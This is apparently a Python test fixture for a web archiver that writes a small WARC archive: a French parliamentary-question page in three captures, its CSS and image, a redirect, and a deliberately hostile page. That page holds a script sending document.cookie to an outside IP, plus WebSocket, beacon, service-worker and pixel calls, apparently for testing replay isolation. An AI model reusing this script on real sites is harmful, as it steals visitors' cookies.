"""A small archive with real WARC files: a page that changes, its stylesheet and image, a revisit, a
redirect, and one hostile page. What each test needs of it has a name."""

import zlib
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

from archiver.folder import DataFolder
from archiver.ingest import as_stored, ingest, site_of
from archiver.profiles import load
from archiver.store.database import Store
from archiver.store.model import CrawlStart
from archiver.warc.model import Exchange, Original
from archiver.warc.writer import WarcWriter

HOST = "claire-vasseur.example"
HOME = f"https://{HOST}/"
ARTICLE = f"{HOME}2024/03/desert-medical/"
OLD = f"{HOME}?p=12"
HOSTILE = f"{HOME}piege/"
STYLE = f"{HOME}theme/style.css"
IMAGE = f"{HOME}theme/carre.png"
TEXT = "Mme Claire Vasseur interroge le ministre sur l’accès aux soins."
ANSWER = "Le Gouvernement installe dix médecins."
FIRST, SECOND, THIRD = (f"2024-03-0{day}T12:00:00.000000Z" for day in (1, 2, 3))
_PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
    b"\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)


@dataclass(frozen=True, slots=True)
class HeldArchive:
    """The folder, and the record IDs of its captures by (URL, instant)."""

    folder: DataFolder
    records: dict[tuple[str, str], str]


def page(answer: str = "") -> bytes:
    return (
        f'<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Désert médical</title>'
        f'<link rel="canonical" href="{ARTICLE}"><link rel="stylesheet" href="/theme/style.css">'
        f'</head><body class="single-post postid-12"><article id="post-12" class="post">'
        f'<h1 class="entry-title">Désert médical</h1><img src="/theme/carre.png" alt="carré">'
        f'<div class="entry-content"><p>Question :</p><p>{TEXT}</p><p>Réponse :</p><p>{answer}</p>'
        f"</div></article></body></html>"
    ).encode()


def response(body: bytes, kind: str = "text/html; charset=utf-8", *more: str) -> bytes:
    """A chunked, gzipped answer, as WordPress hosts send them."""
    deflater = zlib.compressobj(6, zlib.DEFLATED, 31)
    packed = deflater.compress(body) + deflater.flush()
    lines = ["HTTP/1.1 200 OK", f"Content-Type: {kind}", "Content-Encoding: gzip", *more]
    head = "\r\n".join((*lines, "Transfer-Encoding: chunked")).encode("latin-1")
    return head + b"\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(packed), packed)


_HOSTILE_PAGE = b"""<!doctype html><title>Piege</title><script>
document.cookie = "vole=1";
fetch("http://198.51.100.7/fuite?" + document.cookie).catch(() => {});
try { new WebSocket("ws://198.51.100.7/prise"); } catch {}
try { navigator.sendBeacon("http://198.51.100.7/balise", "x"); } catch {}
navigator.serviceWorker && navigator.serviceWorker.register("/memento/x.js").catch(() => {});
</script><img src="http://198.51.100.7/pixel.png"><p>Bonjour.</p>"""
EXCHANGES = (
    (STYLE, FIRST, response(b"h1 { color: rgb(1, 2, 3) }", "text/css")),
    (IMAGE, FIRST, b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n" + _PNG),
    (OLD, FIRST, b"HTTP/1.1 301 Moved\r\nLocation: /2024/03/desert-medical/\r\n\r\n"),
    (ARTICLE, FIRST, response(page(), "text/html; charset=utf-8", "X-Odd: caf\xe9 <b>")),
    (ARTICLE, SECOND, response(page())),
    (ARTICLE, THIRD, response(page(ANSWER))),
    (HOSTILE, FIRST, response(_HOSTILE_PAGE)),
)


def hold(root: Path, *, finished: bool = True) -> HeldArchive:
    """Write the archive as a crawl would; `finished` False leaves its WARC file open."""
    folder = DataFolder(root)
    folder.prepare()
    profile = load(HOME)
    writer = WarcWriter(folder.warcs, prefix=HOST, info={"software": "archiver"})
    records: dict[tuple[str, str], str] = {}
    with closing(Store.open(folder.database)) as store:
        store.describe_site(site_of(profile, FIRST))
        crawl = store.begin_crawl(CrawlStart(profile.site_id, "live", FIRST))
        for url, at, answer in EXCHANGES:
            request = f"GET {url.removeprefix(HOME[:-1])} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
            exchange = Exchange(url, at, request, answer)
            known = records.get((ARTICLE, FIRST))
            same = Original(known or "", ARTICLE, FIRST) if (url, at) == (ARTICLE, SECOND) else None
            place = writer.write(exchange, same)
            stored = as_stored(exchange, place)
            ingest(store, stored, crawl, profile)
            records[(url, at)] = place.record_id
        store.derive_pending()
    if finished:
        writer.close()
    return HeldArchive(folder, records)
